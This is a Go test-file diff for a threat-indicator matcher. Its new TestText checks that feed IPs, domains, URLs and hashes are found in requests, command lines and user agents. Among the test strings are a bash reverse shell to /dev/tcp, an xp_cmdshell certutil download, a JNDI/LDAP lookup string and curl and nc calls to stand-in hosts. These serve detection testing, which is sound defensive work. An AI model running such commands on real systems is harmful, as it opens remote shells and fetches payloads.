@@ -4,8 +4,11 @@ import (
 	"bytes"
 	"compress/gzip"
 	"errors"
+	"net/url"
 	"os"
 	"path/filepath"
+	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
@@ -103,11 +106,52 @@ func TestMatch(t *testing.T) {
 			t.Errorf("%s: %d, want %d", c.what, len(c.got), c.n)
 		}
 	}
-	if texts := m.Texts(); len(texts) != 2 {
-		t.Errorf("%+v", texts)
-	}
 	if in := (&feed.Indicator{Grade: "?2"}); in.Graded("B3") != "B2" || (&feed.Indicator{}).Graded("B3") != "B3" || (&feed.Indicator{Grade: "A1"}).Graded("F6") != "A1" {
 		t.Error("grades")
+	}
+}
+
+// What stands in queries, command lines, agents and bodies, each with the indicators that it holds.
+func TestText(t *testing.T) {
+	const sum = "00112233445566778899aabbccddeeff"
+	m, _ := feed.NewMatcher([]feed.Indicator{
+		{Kind: feed.Address, Value: "198.51.100.7"}, {Kind: feed.Network, Value: "203.0.113.0/24"}, {Kind: feed.Address, Value: "2001:db8::7"},
+		{Kind: feed.Domain, Value: "bad.example"}, {Kind: feed.Domain, Value: "drop.sh"}, {Kind: feed.Hash, Value: sum},
+		{Kind: feed.URL, Value: "http://files.example/a/x.txt"}, {Kind: feed.URL, Value: "https://198.51.100.9:8443/y?z=1"}, {Kind: feed.URL, Value: "http://root.example/"},
+		{Kind: feed.Name, Value: `(?i)\\temp\\dump[0-9]\.exe$`},
+	})
+	for _, c := range []struct {
+		text     string
+		versions bool
+		want     string // matches, separated by spaces
+	}{
+		// Requests for what lies elsewhere, as an argument and inside a path.
+		{"/?url=http://cdn.bad.example/latest/meta", false, "cdn.bad.example"},
+		{"/fetch/BAD.example/x?u=bad.example.", false, "BAD.example bad.example"},
+		{"page=http://files.example/a/x.txt?", false, "files.example/a/x.txt"}, {"page=http://files.example:80/a/x.txt", false, "files.example:80/a/x.txt"},
+		{"page=http://files.example/a/x.txt2", false, ""}, {"page=http://files.example/b", false, ""}, {"http://root.example:8080/anything", false, "root.example:8080"},
+		{"https://198.51.100.9:8443/y?z=1&w", false, "198.51.100.9:8443/y?z=1"}, {"https://198.51.100.9:8444/y?z=1", false, ""}, {"https://198.51.100.9/y?z=1", false, "198.51.100.9/y?z=1"},
+		{"notbad.example bad.example.org xbad.example", false, ""},
+		// What commands fetch and connect to.
+		{"exec master..xp_cmdshell 'certutil -urlcache -f http://203.0.113.9/a.exe c:\\temp\\a.exe'", false, "203.0.113.9"},
+		{"bash -i >& /dev/tcp/198.51.100.7/443 0>&1", false, "198.51.100.7"}, {`net use \\198.51.100.7\c$`, false, "198.51.100.7"},
+		{"ping 198.51.100.70 1198.51.100.7", false, ""}, {"nc 2001:db8::7 443; nc [2001:DB8:0::7]:443", false, "2001:db8::7 2001:DB8:0::7"},
+		{"copy " + strings.ToUpper(sum), false, strings.ToUpper(sum)},
+		// Agents hold versions; endings of files are no domains unless a host stands there.
+		{"Mozilla/5.0 Chrome/203.0.113.0 Safari", true, ""}, {"${jndi:ldap://203.0.113.5/a}", true, "203.0.113.5"}, {"Mozilla/5.0 (+http://bad.example)", true, "bad.example"},
+		{"sh drop.sh; chmod +x ./drop.sh", false, ""}, {"curl http://drop.sh/x", false, "drop.sh"},
+		{strings.Repeat("a.", 40000) + "bad.example", false, ""},
+	} {
+		var got []string
+		for _, h := range m.Text(c.text, c.versions) {
+			got = append(got, h.Match)
+		}
+		if strings.Join(got, " ") != c.want {
+			t.Errorf("%.80q: %q, want %q", c.text, got, c.want)
+		}
+	}
+	if got := m.Words(`cmd /c "C:\Windows\Temp\dump1.exe" /q >c:\temp\dump12.exe`); len(got) != 1 || got[0].Match != `C:\Windows\Temp\dump1.exe` {
+		t.Errorf("words: %+v", got)
 	}
 }
 
@@ -125,7 +169,13 @@ func TestSharedLists(t *testing.T) {
 	}
 }
 
-// The laws of Read: what comes out is bounded and well formed, can be matched, and its rejects are safe to draw.
+var (
+	plainHost = regexp.MustCompile(`^[a-z0-9]+\.[a-z0-9]+$`)
+	paths     = []string{"/srv/images/up.php", `C:\Temp\A B.exe`, "/KELVIN/\u212A.php", "x", "/a/b.php", "A.EXAMPLE"}
+)
+
+// The laws of Read: what comes out is bounded and well formed, can be matched, alone as among others, in a text as by
+// itself, and its rejects are safe to draw.
 func FuzzRead(f *testing.F) {
 	for _, s := range []string{stix, misp, csv, hash + ";x\n", "a.example\n", `\\x\.php;70;y`, "[[[", "{\"Event\":{}}"} {
 		f.Add([]byte(s))
@@ -156,7 +206,18 @@ func FuzzRead(f *testing.F) {
 				found = len(m.Client(in.Value))
 			case feed.Domain:
 				found = len(m.Host(in.Value))
-			case feed.Network, feed.URL, feed.Name:
+				found = min(found, len(m.Text("get http://"+in.Value+"/x;", true)))
+			case feed.URL:
+				if u, err := url.Parse(in.Value); err == nil && plainHost.MatchString(u.Host) && u.Fragment == "" && len(x.Indicators) < 20 {
+					found = len(m.Text("get "+in.Value+" -o x", true))
+				}
+			case feed.Name:
+				for _, p := range paths {
+					if slow, fast := in.Fits(p), slices.ContainsFunc(m.Path(p), func(i *feed.Indicator) bool { return *i == in }); slow != fast {
+						t.Fatalf("%q fits %q: %v one by one, %v among all", in.Value, p, slow, fast)
+					}
+				}
+			case feed.Network:
 			default:
 				t.Fatalf("kind %q", in.Kind)
 			}
